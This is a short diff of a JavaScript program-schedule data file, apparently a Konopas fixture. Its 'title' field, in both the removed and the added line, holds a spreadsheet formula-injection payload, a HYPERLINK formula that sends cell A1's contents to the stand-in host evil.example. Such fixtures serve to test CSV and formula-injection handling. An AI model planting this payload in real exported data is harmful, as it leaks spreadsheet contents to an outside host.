@@ -1,7 +1,7 @@
 var program = [
  {
-  "id": "=17",
-  "title": "=HYPERLINK(\"https://evil.example/?\"&A1,\"Bees\")",
+  "id": "kono11=17",
+  "title": "=HYPERLINK(\"https://evil.example/?\"&A1,\"Bees\") by Konopas",
   "date": "2027-05-03",
   "time": "10:00",
   "mins": "30",
